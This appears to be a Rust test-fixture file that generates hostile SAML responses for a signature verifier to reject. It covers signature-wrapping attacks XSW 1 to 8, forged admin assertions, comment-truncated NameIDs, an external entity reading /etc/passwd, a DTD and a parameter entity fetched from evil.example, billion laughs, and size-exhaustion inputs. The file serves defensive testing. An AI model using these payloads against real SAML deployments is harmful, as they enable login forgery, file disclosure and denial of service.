//! Messages put together from parts of a good one, and XML that is an attack on its reader.
//!
//! XSW 1 to 8 are the wrappings of Somorovsky and others, "On Breaking SAML" (USENIX Security 2012).

use super::{Draft, Row, first, row, signatures::without_signatures};

pub(super) fn rows() -> Vec<Row> {
    let mut rows = wrappings();
    rows.extend(copies());
    rows.extend(unsafe_xml());
    rows
}

/// A text in three: before an element, the element, after it.
fn parts<'a>(xml: &'a str, name: &str) -> (&'a str, &'a str, &'a str) {
    let start = xml.find(&format!("<{name} ")).unwrap();
    let close = format!("</{name}>");
    let end = xml.rfind(&close).unwrap() + close.len();
    (&xml[..start], &xml[start..end], &xml[end..])
}

/// The same for somebody else, under another identifier, unsigned.
fn evil(element: &str) -> String {
    let mine = without_signatures(element).replace("alice@example.com", "admin@example.com");
    mine.replace("\"_assertion\"", "\"_evil\"").replace("\"_response\"", "\"_evil_response\"")
}

fn signature_of(element: &str) -> &str {
    parts(element, "ds:Signature").1
}

fn wrapping(signature: &str, inside: &str) -> String {
    first(signature, "</ds:Signature>", &format!("<ds:Object>{inside}</ds:Object></ds:Signature>"))
}

fn wrappings() -> Vec<Row> {
    let response = |name, after| row(name, "malformed", Draft::good().signed(&["_response"]).after(after));
    let assertion = |name, after| row(name, "malformed", Draft::good().after(after));
    vec![
        response("XSW 1: the response in its signature", |xml| {
            let signature = wrapping(signature_of(xml), &without_signatures(xml));
            first(&evil(xml), "</saml:Issuer>", &format!("</saml:Issuer>{signature}"))
        }),
        response("XSW 2: the response before its signature", |xml| {
            let moved = format!("</saml:Issuer>{}{}", without_signatures(xml), signature_of(xml));
            first(&evil(xml), "</saml:Issuer>", &moved)
        }),
        assertion("XSW 3: a forged assertion before the signed one", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            format!("{before}{}{signed}{after}", evil(signed))
        }),
        assertion("XSW 4: the signed assertion in a forged one", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            let forged = first(&evil(signed), "</saml:Assertion>", &format!("{signed}</saml:Assertion>"));
            format!("{before}{forged}{after}")
        }),
        assertion("XSW 5: a forged assertion with the signature of another", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            let forged =
                first(&evil(signed), "</saml:Issuer>", &format!("</saml:Issuer>{}", signature_of(signed)));
            format!("{before}{forged}{}{after}", without_signatures(signed))
        }),
        assertion("XSW 6: the signed assertion in the signature of a forged one", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            let signature = wrapping(signature_of(signed), &without_signatures(signed));
            let forged = first(&evil(signed), "</saml:Issuer>", &format!("</saml:Issuer>{signature}"));
            format!("{before}{forged}{after}")
        }),
        assertion("XSW 7: a forged assertion in extensions", |xml| {
            let (_, signed, _) = parts(xml, "saml:Assertion");
            let extensions = format!("<samlp:Extensions>{}</samlp:Extensions><samlp:Status>", evil(signed));
            first(xml, "<samlp:Status>", &extensions)
        }),
        assertion("XSW 7: the signed assertion in extensions", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            let extensions = format!("<samlp:Extensions>{signed}</samlp:Extensions><samlp:Status>");
            first(&format!("{before}{}{after}", evil(signed)), "<samlp:Status>", &extensions)
        }),
        assertion("XSW 8: the signed assertion in an object of a forged one's signature", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            let (start, original, end) = (signature_of(signed), without_signatures(signed), "");
            let signature = wrapping(start, &format!("<x>{original}</x>{end}"));
            let forged = evil(signed).replace("\"_evil\"", "\"_assertion\"");
            let forged = first(&forged, "</saml:Issuer>", &format!("</saml:Issuer>{signature}"));
            format!("{before}{forged}{after}")
        }),
    ]
}

fn copies() -> Vec<Row> {
    let row = |name, after| row(name, "malformed", Draft::good().after(after));
    vec![
        row("the signed assertion twice", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            format!("{before}{signed}{signed}{after}")
        }),
        row("a forged assertion after the signed one", |xml| {
            let (before, signed, after) = parts(xml, "saml:Assertion");
            format!("{before}{signed}{}{after}", evil(signed))
        }),
        row("an assertion in an attribute", |xml| {
            let (_, signed, _) = parts(xml, "saml:Assertion");
            first(xml, ">staff<", &format!(">{}<", evil(signed)))
        }),
        row("an assertion in the confirmation's data", |xml| {
            let (_, signed, _) = parts(xml, "saml:Assertion");
            let data = "InResponseTo=\"_request\"/>";
            let filled = format!("InResponseTo=\"_request\">{}</saml:SubjectConfirmationData>", evil(signed));
            first(xml, data, &filled)
        }),
        row("a response in the response", |xml| {
            first(
                xml,
                "<samlp:Status>",
                "<samlp:Extensions><samlp:Response/></samlp:Extensions><samlp:Status>",
            )
        }),
        row("no assertion", |xml| {
            let (before, _, after) = parts(xml, "saml:Assertion");
            format!("{before}{after}")
        }),
        row("the assertion alone", |xml| {
            let namespace = "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"";
            first(parts(xml, "saml:Assertion").1, "<saml:Assertion", namespace)
        }),
        row("the same identifier twice", |xml| first(xml, "ID=\"_response\"", "ID=\"_assertion\"")),
        row("the same identifier under another name", |xml| {
            first(xml, "<samlp:Status>", "<samlp:Status xml:id=\"_assertion\">")
        }),
        row("the signature twice", |xml| first(xml, signature_of(xml), &signature_of(xml).repeat(2))),
        row("the signature elsewhere", |xml| {
            let signature = signature_of(xml).to_owned();
            first(&without_signatures(xml), "<saml:Subject>", &format!("<saml:Subject>{signature}"))
        }),
        row("a signature that wraps a signature", |xml| {
            let info = format!("<ds:KeyInfo>{}</ds:KeyInfo></ds:Signature>", signature_of(xml));
            first(xml, "</ds:Signature>", &info)
        }),
        Row {
            reason: "encrypted",
            ..row("encrypted assertion", |xml| {
                let (before, _, after) = parts(xml, "saml:Assertion");
                format!("{before}<saml:EncryptedAssertion><x/></saml:EncryptedAssertion>{after}")
            })
        },
        Row {
            reason: "encrypted",
            ..row("encrypted assertion beside the signed one", |xml| {
                first(xml, "<saml:Assertion", "<saml:EncryptedAssertion/><saml:Assertion")
            })
        },
    ]
}

/// Attacks on whoever reads the XML, or on what two readers make of it.
fn unsafe_xml() -> Vec<Row> {
    let row = |name, after| row(name, "unsafe_xml", Draft::good().after(after));
    let broken = |name, after| Row { reason: "bad_signature", ..row(name, after) };
    let large = |name, after| Row { reason: "too_large", ..row(name, after) };
    vec![
        row("comment in the NameID", |xml| {
            first(xml, "alice@example.com<", "alice@example.com<!-- -->.evil.example<")
        }),
        row("comment that hides the end", |xml| {
            first(xml, "alice@example.com<", "alice<!-- -->@example.com<")
        }),
        row("comment between elements", |xml| first(xml, "<saml:Subject>", "<saml:Subject><!-- -->")),
        row("comment after the response", |xml| format!("{xml}<!-- -->")),
        row("instruction in the NameID", |xml| {
            first(xml, "alice@example.com<", "alice@example.com<?x y?>.evil.example<")
        }),
        row("stylesheet", |xml| format!("<?xml-stylesheet href=\"https://evil.example/\"?>{xml}")),
        row("DTD", |xml| format!("<!DOCTYPE Response>{xml}")),
        row("DTD of somebody else", |xml| {
            format!("<!DOCTYPE Response SYSTEM \"https://evil.example/x.dtd\">{xml}")
        }),
        row("external entity", |xml| {
            let dtd = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
            format!("{dtd}{}", first(xml, "alice@example.com", "&x;"))
        }),
        row("parameter entity", |xml| {
            format!("<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x\"> %x;]>{xml}")
        }),
        row("billion laughs", |xml| {
            let laughs = |i: u32| format!("<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10));
            let entities: String = (1..10).map(laughs).collect();
            format!(
                "<!DOCTYPE r [<!ENTITY l0 \"lol\">{entities}]>{}",
                first(xml, "alice@example.com", "&l9;")
            )
        }),
        row("DTD in the middle", |xml| first(xml, "<saml:Subject>", "<!DOCTYPE x><saml:Subject>")),
        row("undeclared entity", |xml| first(xml, "alice@example.com", "&alice;")),
        row("deep nesting", |xml| {
            first(xml, ">staff<", &format!(">{}{}<", "<x>".repeat(50), "</x>".repeat(50)))
        }),
        row("nesting as deep as fits", |xml| {
            first(xml, ">staff<", &format!(">{}{}<", "<x>".repeat(20_000), "</x>".repeat(20_000)))
        }),
        row("very many elements", |xml| first(xml, ">staff<", &format!(">{}<", "<x/>".repeat(30_000)))),
        row("very many attributes", |xml| {
            let many: String =
                (0..10_000).flat_map(|i| [" a".to_owned(), i.to_string(), "=''".to_owned()]).collect();
            first(xml, "<samlp:Status>", &format!("<samlp:Status{many}>"))
        }),
        row("very many namespaces", |xml| {
            let many: String = (0..5_000)
                .flat_map(|i| ["<x xmlns:a".to_owned(), i.to_string(), "='u'/>".to_owned()])
                .collect();
            first(xml, ">staff<", &format!(">{many}<"))
        }),
        row("two roots", |xml| format!("{xml}{xml}")),
        row("cut off", |xml| xml[..xml.len() - 1].to_owned()),
        row("undeclared prefix", |xml| first(xml, "<saml:Subject>", "<evil:x/><saml:Subject>")),
        row("the same attribute twice", |xml| {
            first(xml, "ID=\"_assertion\"", "ID=\"_assertion\" ID=\"_evil\"")
        }),
        large("ten megabytes", |xml| format!("{xml}{}", " ".repeat(10_000_000))),
        broken("namespace of a value changed", |xml| {
            first(xml, "xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"", "xmlns:xs=\"urn:evil\"")
                .replace("xsi:type", "xs:type")
        }),
        broken("xml:base on the assertion", |xml| {
            first(xml, "<saml:Assertion ", "<saml:Assertion xml:base=\"https://evil.example/\" ")
        }),
        broken("xml:space in the subject", |xml| {
            first(xml, "<saml:NameID ", "<saml:NameID xml:space=\"preserve\" ")
        }),
        broken("other prefix, same namespace", |xml| {
            let renamed = "<evil:Subject xmlns:evil=\"urn:oasis:names:tc:SAML:2.0:assertion\">";
            first(&first(xml, "<saml:Subject>", renamed), "</saml:Subject>", "</evil:Subject>")
        }),
        broken("namespaces listed in the signature, not signed so", |xml| {
            let list = "><ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" \
                        PrefixList=\"xs\"/></ds:Transform>";
            let plain = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>";
            first(xml, plain, &plain.replace("/>", list))
        }),
    ]
}
